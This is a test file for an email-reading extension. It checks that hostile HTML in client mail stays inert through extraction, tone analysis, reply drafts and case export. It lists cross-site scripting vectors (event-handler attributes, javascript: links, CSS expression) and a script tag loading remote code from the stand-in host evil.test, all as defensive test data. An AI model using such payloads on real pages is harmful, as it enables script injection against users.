// @vitest-environment jsdom
/**
 * Issue 10, "no email HTML is ever rendered": hostile markup in a client's mail goes through every
 * path we have (extraction, analyser and issues, drafts, the reply box, case storage, export and
 * import) and stays inert text the whole way.
 *
 * The mail page here is a jsdom window that RUNS scripts and LOADS subresources through a recording
 * interceptor, so a handler firing or a fetch would be seen. The first test proves the detector
 * works: the same markup put into the live page the non-inert way does fire and fetch.
 */
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import { JSDOM, requestInterceptor, VirtualConsole } from 'jsdom';
import { afterEach, describe, expect, it } from 'vitest';
import { RescueDb } from '../../lib/cases/db';
import { applyImport, exportAll } from '../../lib/cases/export-import';
import { parseImport } from '../../lib/cases/export-format';
import { openCaseFromMessage } from '../../lib/cases/open-case';
import { firstResponseDraft } from '../../lib/drafts';
import { extractFromElement, extractFromHtml } from '../../lib/extract';
import { insertTextAtCaret } from '../../lib/providers/shared/insert-text';
import { DEFAULT_SETTINGS } from '../../lib/settings/schema';
import { analyzeTone } from '../../lib/tone';

/** Every vector the issue names, each reporting to `__hits` (or fetching from evil.test) if it ever runs. */
const VECTORS = [
  `<img src="https://evil.test/pixel.png" onerror="__hits.push('img-onerror')" onload="__hits.push('img-onload')">`,
  `<script>__hits.push('inline-script')</script>`,
  `<script src="https://evil.test/remote.js"></script>`,
  `<svg onload="__hits.push('svg-onload')"><circle r="5"/></svg>`,
  `<a href="javascript:__hits.push('js-link')" id="jslink">Click here for your refund</a>`,
  `<iframe src="https://evil.test/frame" onload="__hits.push('iframe-onload')"></iframe>`,
  `<link rel="stylesheet" href="https://evil.test/sheet.css">`,
  `<style>@import url(https://evil.test/import.css); body{background:url(https://evil.test/bg.png);width:expression(__hits.push('expression'))}</style>`,
  `<details open ontoggle="__hits.push('details-ontoggle')"><summary>more</summary>x</details>`,
  `<div style="background-image:url(https://evil.test/inline-bg.png)">styled</div>`,
  `<body onload="__hits.push('body-onload')">`,
  `<input autofocus onfocus="__hits.push('autofocus')">`,
];

const MAIL_TEXT =
  'Dana, this is the third outage this month and nobody told us. Frankly, this is unacceptable. ' +
  'Invoice 4471 was charged twice and I will not approve it. Fix it by Friday or we look at other vendors.';

const HOSTILE_HTML = `<div dir="ltr"><p>${MAIL_TEXT}</p>${VECTORS.join('\n')}<p>Maria</p></div>`;

/** Markup as plain text the client typed (Gmail shows it escaped; we must keep it as these exact characters). */
const TYPED_MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("pwned")</script>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">refund</a>',
  '<style>body{width:expression(alert(1))}</style>',
];

interface MailPage {
  dom: JSDOM;
  /** Every subresource URL the page tried to load. Handler runs are read from the page's own `__hits`. */
  requests: string[];
}

let pages: JSDOM[] = [];
afterEach(() => {
  for (const dom of pages) dom.window.close();
  pages = [];
});

/** A mail page whose scripts run and whose subresource loads are recorded (and answered 404, offline). */
function mailPage(bodyHtml = ''): MailPage {
  const requests: string[] = [];
  const dom = new JSDOM(`<!doctype html><html><head><script>window.__hits = [];</script></head><body>${bodyHtml}</body></html>`, {
    url: 'https://mail.google.com/mail/u/0/',
    runScripts: 'dangerously',
    pretendToBeVisual: true,
    // The 404s would print "Could not load …"; what was requested is recorded below instead.
    virtualConsole: new VirtualConsole(),
    resources: {
      interceptors: [
        requestInterceptor((request: Request) => {
          requests.push(request.url);
          return Promise.resolve(new Response('', { status: 404 }));
        }),
      ],
    },
  } as ConstructorParameters<typeof JSDOM>[1]);
  pages.push(dom);
  return { dom, requests };
}

function liveHits(page: MailPage): string[] {
  return [...(page.dom.window as unknown as { __hits: string[] }).__hits];
}

/** Resource loads and handlers in jsdom are queued; give them a few turns to happen. */
async function settle(): Promise<void> {
  for (let i = 0; i < 5; i++) await new Promise((r) => setTimeout(r, 20));
}

function expectNoMarkupElements(root: ParentNode): void {
  expect(root.querySelectorAll('img, script, svg, iframe, link, style, a, input, details, object, embed').length).toBe(0);
}

describe('extraction is inert', () => {
  it('detector check: the same markup inserted into the live page the non-inert way does run and fetch', async () => {
    // This is what extraction must never do (innerHTML / cloneNode into the mail page): it fires handlers and
    // loads remote resources, so the assertions below would fail if extraction worked this way.
    const page = mailPage('<div id="slot"></div>');
    // eslint-disable-next-line no-restricted-properties -- deliberately the forbidden way, to prove the detector sees it
    page.dom.window.document.getElementById('slot')!.innerHTML = HOSTILE_HTML;
    await settle();
    expect(liveHits(page).length + page.requests.length).toBeGreaterThan(0);
    expect(page.requests.some((u) => u.startsWith('https://evil.test/'))).toBe(true);
  });

  it('extractFromHtml with the page window: no handler fires, nothing is fetched, the text comes out', async () => {
    const page = mailPage();
    const body = extractFromHtml(HOSTILE_HTML, { view: page.dom.window as unknown as typeof globalThis });
    await settle();
    expect(liveHits(page)).toEqual([]);
    expect(page.requests).toEqual([]);
    expect(body.text).toContain('third outage this month');
    expect(body.text).toContain('Click here for your refund');
    // Script and style bodies are not text a person reads; neither is any handler source.
    expect(body.text).not.toMatch(/__hits|expression\(|evil\.test/);
  });

  it('extractFromElement reads a live message element without re-running or re-fetching anything in it', async () => {
    const page = mailPage(`<div class="a3s aiL" id="msg">${HOSTILE_HTML}</div>`);
    await settle();
    // What the page itself did when it loaded is the page's business; from here on, only our read runs.
    const before = { hits: liveHits(page).length, requests: page.requests.length };
    const doc = page.dom.window.document;
    const el = doc.getElementById('msg')!;
    const serialise = () => new page.dom.window.XMLSerializer().serializeToString(el);
    const snapshot = serialise();
    const body = extractFromElement(el);
    await settle();
    expect(liveHits(page).length).toBe(before.hits);
    expect(page.requests.length).toBe(before.requests);
    expect(body.text).toContain('Frankly, this is unacceptable.');
    expect(body.text).not.toMatch(/__hits|evil\.test/);
    // The read did not touch the page: the element is byte for byte what it was.
    expect(serialise()).toBe(snapshot);
  });

  it('markup the client typed as text stays those exact characters', () => {
    const page = mailPage();
    const doc = page.dom.window.document;
    const el = doc.createElement('div');
    for (const line of TYPED_MARKUP) {
      const p = doc.createElement('p');
      p.textContent = `${MAIL_TEXT} ${line}`;
      el.append(p);
    }
    const body = extractFromElement(el);
    for (const line of TYPED_MARKUP) expect(body.text).toContain(line);
  });
});

describe('analyser, issues and drafts keep markup as text', () => {
  const text = `${MAIL_TEXT}\n\n${TYPED_MARKUP.join('\n')}\nYou never answer my emails <img src=x onerror=alert(1)>.`;

  it('every signal phrase and issue is a verbatim slice of the text, markup included', () => {
    const report = analyzeTone(text, { subject: '<script>alert(1)</script> Third outage' });
    expect(report.status).toBe('ok');
    for (const s of report.signals) expect(text.slice(s.start, s.end)).toBe(s.phrase);
    for (const i of report.issues) {
      expect(typeof i.statement).toBe('string');
      expect(text.slice(i.start, i.end)).toBe(i.evidence);
    }
    // No entity encoding and no stripping: what the analyser hands on is the client's own characters.
    const joined = JSON.stringify(report);
    expect(joined).not.toContain('&lt;');
    expect(report.issues.some((i) => i.evidence.includes('<img src=x onerror=alert(1)>'))).toBe(true);
  });

  it('drafts carry markup as plain text, and inserting one into a rich reply box creates only text', async () => {
    const report = analyzeTone(text);
    const draft = firstResponseDraft(
      {
        settings: { ...DEFAULT_SETTINGS, userName: '<b onmouseover=alert(1)>Sam</b>' },
        report,
        clientFirstName: '<svg onload=alert(1)>',
        planBy: new Date('2026-12-01T12:00:00Z'),
        now: new Date('2026-11-27T12:00:00Z'),
      },
      'full',
    );
    expect(draft.body).toContain('<svg onload=alert(1)>');
    expect(draft.body).not.toContain('&lt;');

    // The reply box is the mail page's rich editor: the draft must land there as text nodes only.
    const page = mailPage('<div id="box" contenteditable="true" role="textbox"></div>');
    await settle();
    const box = page.dom.window.document.getElementById('box') as HTMLElement;
    insertTextAtCaret(box, draft.body);
    await settle();
    expectNoMarkupElements(box);
    expect(box.querySelectorAll('b').length).toBe(0);
    expect(box.textContent).toContain('<svg onload=alert(1)>');
    expect(liveHits(page)).toEqual([]);
    expect(page.requests).toEqual([]);
  });
});

describe('case storage and export keep markup verbatim', () => {
  it('a case opened from hostile mail survives export → JSON file → import into a fresh database unchanged', async () => {
    const report = analyzeTone(`${MAIL_TEXT}\n${TYPED_MARKUP.join('\n')}`);
    const db = new RescueDb({ name: 'hostile', indexedDB: new IDBFactory(), IDBKeyRange });
    const issues = TYPED_MARKUP.map((m) => ({ statement: m, evidence: `${m} (evidence)`, kind: 'specific' as const }));
    const { case: opened } = await openCaseFromMessage(db, {
      sender: { name: '<img src=x onerror=alert(1)>', address: 'maria.keller@gmail.com' },
      provider: 'gmail',
      threadId: '<script>t</script>',
      messageId: 'javascript:alert(1)',
      subject: '<svg onload=alert(1)> Third outage',
      sentAt: '2026-11-24T08:00:00Z',
      report,
      issues,
      now: '2026-11-25T09:00:00Z',
    });
    expect(opened.title).toContain('<svg onload=alert(1)>');

    const json = JSON.stringify(await exportAll(db, '2026-11-25T10:00:00Z'));
    for (const m of TYPED_MARKUP) expect(json).toContain(JSON.stringify(m).slice(1, -1));
    expect(json).not.toContain('&lt;');

    const restored = new RescueDb({ name: 'restored', indexedDB: new IDBFactory(), IDBKeyRange });
    await applyImport(restored, parseImport(json));
    const statements = (await restored.issues.toArray()).map((i) => [i.statement, i.evidence]);
    for (const i of issues) expect(statements).toContainEqual([i.statement, i.evidence]);
    expect((await restored.clients.toArray()).map((c) => c.name)).toContain('<img src=x onerror=alert(1)>');
    expect((await restored.cases.get(opened.id))?.title).toBe(opened.title);
    expect((await restored.messages.toArray()).map((m) => m.messageId)).toContain('javascript:alert(1)');
  });
});
